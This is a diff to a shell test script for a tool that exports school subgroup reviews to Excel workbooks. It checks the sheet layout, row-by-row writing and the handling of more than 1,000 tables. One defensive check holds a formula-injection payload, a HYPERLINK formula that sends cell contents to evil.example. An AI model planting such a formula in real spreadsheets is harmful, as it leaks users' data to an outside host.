@@ -76,8 +76,8 @@ check "no temporary file is left beside it" test "$(ls "$T/out")" = data.xlsx
 check "nor in TMPDIR (the sheets' row files)" test -z "$(ls -A "$T/tmp")"
 check "written 0600" test "$(stat -c %a "$OUT")" = 600
 SHEETS=$(xlsx_dump "$OUT" "$T/x")
-check "sheets: About Scores Findings Recommendations Subgroups Agreement, then the tables" \
-	test "$(printf %s "$SHEETS" | cut -d'|' -f1-6)" = "About|Scores|Findings|Recommendations|Subgroups|Agreement"
+check "sheets: About Scores Findings Recommendations Subgroups Agreement Tables, then a sheet a table" \
+	test "$(printf %s "$SHEETS" | cut -d'|' -f1-7)" = "About|Scores|Findings|Recommendations|Subgroups|Agreement|Tables"
 check "no formula cell anywhere" test "$(cat "$T/x/formulas")" = 0
 check "the hostile finding is a string with one guard" \
 	grep -qF "	'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")	" "$T/x/Findings.tsv"
@@ -92,7 +92,7 @@ check "the status is on the About sheet" grep -q "^Status	DRAFT$" "$T/x/About.ts
 # The sheets that grow with the review are written a row at a time (libxlsxwriter's
 # constant_memory mode: each row to a temporary file as the next starts, strings inline);
 # the tables' sheets open no file each, so a review with more tables than open files works.
-for s in About Scores Findings Recommendations Subgroups Agreement; do
+for s in About Scores Findings Recommendations Subgroups Agreement Tables; do
 	check "$s is written row by row (inline strings only)" test "$(cat "$T/x/$s.kinds")" = inlineStr
 done
 check "with 64 open files at most, every table's sheet is written" \
@@ -139,7 +139,7 @@ TABLES=$(sql "$DB" "SELECT count(*) FROM (SELECT DISTINCT r.site_id, r.year, r.m
 	WHERE r.year = (SELECT max(x.year) FROM subgroup_row x WHERE x.site_id = r.site_id))")
 python3 - "$T/x/names" "$SHEETS" <<'PY'
 import sys
-names = sys.argv[2].split("|")[6:]
+names = sys.argv[2].split("|")[7:]
 open(sys.argv[1], "w").write("%d %d %d\n" % (len(names), len({n.lower() for n in names}),
 	sum(1 for n in names if len(n) > 31 or any(c in n for c in "[]:*?/\\"))))
 PY
@@ -149,8 +149,31 @@ check "each table sheet holds its groups and all students" \
 	sh -c "tail -n 1 '$T/x/DO 2024-25 grad race.tsv' | grep -q '^DO	2024-25	grad	.*	All students	'"
 : >"$T/x/tables.tsv"
 for f in "$T"/x/*" "*.tsv; do tail -n +2 "$f" >>"$T/x/tables.tsv"; done
+check "the Tables sheet holds every table sheet's rows, in their order" sh -c "tail -n +2 '$T/x/Tables.tsv' >'$T/a';
+	printf '%s\n' '$SHEETS' | tr '|' '\n' | tail -n +8 | while IFS= read -r n; do tail -n +2 \"$T/x/\$n.tsv\"; done >'$T/b'; cmp -s '$T/a' '$T/b'"
+check "About counts them: $TABLES, each on a sheet of its own" \
+	grep -q "^Tables	$TABLES subgroup tables, all on the Tables sheet and each on a sheet of its own.\$" "$T/x/About.tsv"
 check "the table sheets hold every row the Subgroups sheet does" \
 	sh -c "tail -n +2 '$T/x/Subgroups.tsv' | sort -u >'$T/a'; sort -u '$T/x/tables.tsv' >'$T/b'; comm -23 '$T/a' '$T/b' | wc -l | grep -qx 0"
+
+# More than 1,000 tables (a district of many schools has hundreds of thousands): every
+# one on the Tables sheet, a sheet each for the first 1,000 only.
+python3 - >"$T/more.csv" <<'PY'
+print("site,year,metric,dimension,group,enrolled,count")
+for s in ("RHS", "EHS", "MMS", "OES", "HMS", "WES"):
+    for y in range(2005, 2015):
+        for d in range(15):
+            print("%s,%d-%02d,oss,extra%d,A,100,20\n%s,%d-%02d,oss,extra%d,B,120,25" % (s, y, (y + 1) % 100, d, s, y, (y + 1) % 100, d))
+PY
+cp "$DB" "$T/big.db"
+"$QREL" import subgroups --db "$T/big.db" --as "$LEAD" "$T/more.csv" >/dev/null
+BIG=$(sql "$T/big.db" "SELECT count(*) FROM (SELECT DISTINCT site_id, year, metric_id, dimension FROM subgroup_row)")
+check "a review of $BIG tables: the workbook is written" "$QREL" report --db "$T/big.db" --as "$LEAD" --all-years -o "$T/out/big.xlsx"
+BIGSHEETS=$(xlsx_dump "$T/out/big.xlsx" "$T/big")
+check "with 7 sheets and 1,000 of one table each" test "$(printf '%s\n' "$BIGSHEETS" | tr '|' '\n' | wc -l)" = 1007
+check "every table's rows on its Tables sheet (2 groups and all students each)" \
+	test "$(tail -n +2 "$T/big/Tables.tsv" | grep -c '	All students	')" = "$BIG"
+check "About says so" grep -q "^Tables	$BIG subgroup tables, all on the Tables sheet; the first 1000 (in its order) also have a sheet each.\$" "$T/big/About.tsv"
 
 # Subgroups and the table sheets: every withheld count is "*", and its raw count is nowhere in its row.
 WITHHELD=$(awk -F'\t' 'NR > 1 && $8 == "*"' "$T/x/Subgroups.tsv" | wc -l)
